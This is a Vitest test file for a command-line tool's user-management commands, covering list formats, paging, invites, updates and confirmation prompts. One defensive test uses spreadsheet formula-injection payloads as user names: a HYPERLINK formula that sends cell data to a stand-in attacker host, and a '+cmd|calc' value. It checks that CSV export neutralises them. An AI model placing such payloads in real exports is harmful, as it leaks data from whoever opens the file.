import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type CliWorld, cliWorld } from '../helpers/cli.js';

let w: CliWorld;
beforeEach(async () => {
  w = cliWorld();
  // The first command creates the embedded platform (org_0001, owner user_0001).
  await w.runCli(['users', 'invite', 'ada@example.com', '--name', 'Ada Lovelace', '--role', 'admin']);
});
afterEach(() => w.cleanup());

describe('users list', () => {
  it('prints tab-separated rows with a header on a pipe', async () => {
    expect(await w.runCli(['users', 'list'])).toMatchObject({
      code: 0,
      stdout:
        'ID\tEMAIL\tNAME\tROLE\tSTATUS\tCREATED\n' +
        'user_0002\tada@example.com\tAda Lovelace\tadmin\tpending\t2026-01-01T00:00:00.000Z\n' +
        'user_0001\tadmin@localhost\tAdmin\towner\tactive\t2026-01-01T00:00:00.000Z\n',
      stderr: '',
    });
  });

  it('prints a table with coloured statuses on a terminal', async () => {
    const r = await w.runCli(['users', 'list', '--sort', 'email', '--order', 'asc'], { tty: true });
    expect(r.code).toBe(0);
    expect(r.stderr).toBe('');
    expect(r.stdout).toBe(
      [
        '┌───────────┬─────────────────┬──────────────┬───────┬─────────┬──────────────────────────┐',
        '│ \x1b[1mID\x1b[22m        │ \x1b[1mEMAIL\x1b[22m           │ \x1b[1mNAME\x1b[22m         │ \x1b[1mROLE\x1b[22m  │ \x1b[1mSTATUS\x1b[22m  │ \x1b[1mCREATED\x1b[22m                  │',
        '├───────────┼─────────────────┼──────────────┼───────┼─────────┼──────────────────────────┤',
        '│ user_0002 │ ada@example.com │ Ada Lovelace │ admin │ \x1b[33mpending\x1b[39m │ 2026-01-01T00:00:00.000Z │',
        '│ user_0001 │ admin@localhost │ Admin        │ owner │ \x1b[32mactive\x1b[39m  │ 2026-01-01T00:00:00.000Z │',
        '└───────────┴─────────────────┴──────────────┴───────┴─────────┴──────────────────────────┘',
        '',
      ].join('\n'),
    );
  });

  it('never colours with NO_COLOR or --no-color', async () => {
    const a = await w.runCli(['users', 'list'], { tty: true, env: { NO_COLOR: '1' } });
    const b = await w.runCli(['users', 'list', '--no-color'], { tty: true });
    for (const r of [a, b]) {
      expect(r.code).toBe(0);
      expect(r.stdout).not.toContain('\x1b[');
      expect(r.stdout).toContain('│ user_0002 │ ada@example.com │ Ada Lovelace │ admin │ pending │');
    }
  });

  it('filters, and prints JSON arrays, CSV and ids', async () => {
    const json = await w.runCli(['users', 'list', '--status', 'active', '--json']);
    expect(json.code).toBe(0);
    expect(JSON.parse(json.stdout)).toEqual([
      {
        id: 'user_0001',
        email: 'admin@localhost',
        name: 'Admin',
        avatarUrl: null,
        status: 'active',
        emailVerified: true,
        role: 'owner',
        createdAt: '2026-01-01T00:00:00.000Z',
        updatedAt: '2026-01-01T00:00:00.000Z',
        lastLoginAt: null,
        metadata: {},
      },
    ]);
    expect(await w.runCli(['users', 'list', '--search', 'LOVE', '-o', 'ids'])).toMatchObject({
      code: 0,
      stdout: 'user_0002\n',
      stderr: '',
    });
    expect((await w.runCli(['users', 'list', '-o', 'csv', '--sort', 'name', '--order', 'asc'])).stdout).toBe(
      'ID,EMAIL,NAME,ROLE,STATUS,CREATED\r\n' +
        'user_0002,ada@example.com,Ada Lovelace,admin,pending,2026-01-01T00:00:00.000Z\r\n' +
        'user_0001,admin@localhost,Admin,owner,active,2026-01-01T00:00:00.000Z\r\n',
    );
  });

  it('neutralises in CSV the cells a spreadsheet would run as formulas, as users export does', async () => {
    // An invitee chooses their own name: an admin's spreadsheet must not run it.
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Ada")';
    await w.runCli(['users', 'invite', 'eve@example.com', '--name', evil]);
    await w.runCli(['users', 'invite', 'mal@example.com', '--name', '+cmd|calc']);
    const csv = (await w.runCli(['users', 'list', '-o', 'csv', '--search', 'example.com', '--sort', 'email'])).stdout;
    expect(csv).toContain(`eve@example.com,"'=HYPERLINK(""http://evil.example/?""&A1,""Ada"")",member`);
    expect(csv).toContain("mal@example.com,'+cmd|calc,member");
    // Elsewhere the name is as it was given.
    const tsv = (await w.runCli(['users', 'list', '--search', 'eve'])).stdout;
    expect(tsv).toContain(`\t${evil}\t`);
  });

  it('an empty list is success: a header on a pipe, a notice on a terminal, [] in JSON', async () => {
    expect(await w.runCli(['users', 'list', '--status', 'suspended'])).toMatchObject({
      code: 0,
      stdout: 'ID\tEMAIL\tNAME\tROLE\tSTATUS\tCREATED\n',
      stderr: '',
    });
    expect(await w.runCli(['users', 'list', '--status', 'suspended'], { tty: true })).toMatchObject({
      code: 0,
      stdout: '',
      stderr: 'No results.\n',
    });
    expect((await w.runCli(['users', 'list', '--status', 'suspended', '--json'])).stdout).toBe('[]\n');
  });

  it('walks every page with --all (JSON array of all records), one page otherwise', async () => {
    for (let i = 0; i < 4; i++) await w.runCli(['users', 'invite', `u${i}@example.com`]);
    const one = await w.runCli(['users', 'list', '--per-page', '2', '-o', 'ids']);
    expect(one.stdout.trim().split('\n')).toHaveLength(2);
    const all = await w.runCli(['users', 'list', '--limit', '2', '--all', '--json']);
    expect(all.code).toBe(0);
    expect(JSON.parse(all.stdout)).toHaveLength(6);
    expect(all.stderr).toBe('');
    const tty = await w.runCli(['users', 'list', '--limit', '2', '--all', '-o', 'ids'], { tty: true });
    expect(tty.stderr).toBe('\rFetched 2 users…\rFetched 4 users…\rFetched 6 users…\r\x1b[K');
  });

  it('asks for a first page in cursor mode (no total to count), in offset mode with --page or --per-page', async () => {
    for (let i = 0; i < 25; i++) await w.runCli(['users', 'invite', `p${i}@example.com`]);
    const list = async (...flags: string[]) => {
      const r = await w.runCli(['users', 'list', '-o', 'ids', '--verbose', ...flags]);
      expect(r.code).toBe(0);
      const url = /^→ GET (\S+) · 200/.exec(r.stderr)?.[1] ?? r.stderr;
      return { ids: r.stdout.trim().split('\n'), query: new URL(url).search };
    };
    const first = await list();
    expect(first.query).toBe('?limit=20');
    expect(first.ids).toHaveLength(20);
    // The same records, in the same order, as offset paging's first page.
    expect(await list('--per-page', '20')).toEqual({ ids: first.ids, query: '?per_page=20' });
    expect((await list('--page', '2')).query).toBe('?page=2');
    expect(await list('--limit', '5')).toEqual({ ids: first.ids.slice(0, 5), query: '?limit=5' });
  });
});

describe('users get, invite, update', () => {
  it('shows one record as a key/value table on a terminal and as a row on a pipe', async () => {
    const tty = await w.runCli(['users', 'get', 'user_0002', '--no-color'], { tty: true });
    expect(tty).toMatchObject({ code: 0, stderr: '' });
    expect(tty.stdout).toBe(
      [
        '┌────────────────┬──────────────────────────┐',
        '│ ID             │ user_0002                │',
        '│ EMAIL          │ ada@example.com          │',
        '│ NAME           │ Ada Lovelace             │',
        '│ ROLE           │ admin                    │',
        '│ STATUS         │ pending                  │',
        '│ EMAIL VERIFIED │ false                    │',
        '│ AVATAR         │                          │',
        '│ METADATA       │                          │',
        '│ CREATED        │ 2026-01-01T00:00:00.000Z │',
        '│ UPDATED        │ 2026-01-01T00:00:00.000Z │',
        '│ LAST LOGIN     │                          │',
        '└────────────────┴──────────────────────────┘',
        '',
      ].join('\n'),
    );
    expect(await w.runCli(['users', 'get', 'user_0002'])).toMatchObject({
      code: 0,
      stdout:
        'ID\tEMAIL\tNAME\tROLE\tSTATUS\tCREATED\n' +
        'user_0002\tada@example.com\tAda Lovelace\tadmin\tpending\t2026-01-01T00:00:00.000Z\n',
      stderr: '',
    });
  });

  it('invite prints the invitation; update merges metadata and prints the user', async () => {
    expect(await w.runCli(['users', 'invite', 'bob@example.com'])).toMatchObject({
      code: 0,
      stdout:
        'ID\tEMAIL\tROLE\tSTATUS\tUSER\tEXPIRES\n' +
        'inv_0002\tbob@example.com\tmember\tpending\tuser_0003\t2026-01-08T00:00:00.000Z\n',
      stderr: '',
    });
    await w.runCli(['users', 'update', 'user_0002', '--metadata', 'plan=gold', '--metadata', 'trial=yes']);
    const r = await w.runCli([
      'users',
      'update',
      'user_0002',
      '--unset-metadata',
      'trial',
      '--name',
      'Ada L.',
      '--json',
    ]);
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout)).toMatchObject({ id: 'user_0002', name: 'Ada L.', metadata: { plan: 'gold' } });
    expect(await w.runCli(['users', 'update', 'user_0002', '-q'])).toMatchObject({
      code: 2,
      stdout: '',
      stderr: 'plat: nothing to update: give --name, --role, --metadata or --unset-metadata\n',
    });
  });

  it('--quiet prints nothing after a change unless an output is asked for', async () => {
    expect(await w.runCli(['users', 'update', 'user_0002', '--name', 'A', '-q'])).toMatchObject({
      code: 0,
      stdout: '',
      stderr: '',
    });
    expect(await w.runCli(['users', 'update', 'user_0002', '--name', 'B', '-q', '-o', 'ids'])).toMatchObject({
      code: 0,
      stdout: 'user_0002\n',
    });
  });
});

describe('users suspend, unsuspend, delete', () => {
  it('asks on a terminal and acts on "y"', async () => {
    const r = await w.runCli(['users', 'suspend', 'user_0002', '-o', 'ids'], { tty: true, stdin: 'y\n' });
    expect(r).toMatchObject({
      code: 0,
      stdout: 'user_0002\n',
      stderr: 'Suspend user user_0002 (revoking all their sessions and API keys)? [y/N] ',
    });
    const no = await w.runCli(['users', 'delete', 'user_0002'], { tty: true, stdin: 'n\n' });
    expect(no).toMatchObject({
      code: 2,
      stdout: '',
      stderr: 'Delete user user_0002? [y/N] plat: aborted: nothing was changed\n',
    });
    expect((await w.runCli(['users', 'get', 'user_0002', '-o', 'ids'])).stdout).toBe('user_0002\n');
  });

  it('without a terminal needs --yes: exit 2 and nothing deleted', async () => {
    expect(await w.runCli(['users', 'delete', 'user_0002'])).toMatchObject({
      code: 2,
      stdout: '',
      stderr: 'plat: refusing to delete user user_0002 without confirmation: pass --yes (stdin is not a terminal)\n',
    });
    expect((await w.runCli(['users', 'get', 'user_0002'])).code).toBe(0);
    expect(await w.runCli(['users', 'delete', 'user_0002', '--yes'])).toMatchObject({
      code: 0,
      stdout: '',
      stderr: 'Deleted user user_0002.\n',
    });
    expect((await w.runCli(['users', 'get', 'user_0002'])).code).toBe(5);
  });

  it('suspend then unsuspend returns a pending user to pending', async () => {
    await w.runCli(['users', 'suspend', 'user_0002', '-y']);
    expect(await w.runCli(['users', 'unsuspend', 'user_0002'])).toMatchObject({
      code: 0,
      stdout:
        'ID\tEMAIL\tNAME\tROLE\tSTATUS\tCREATED\n' +
        'user_0002\tada@example.com\tAda Lovelace\tadmin\tpending\t2026-01-01T00:00:00.000Z\n',
    });
  });
});
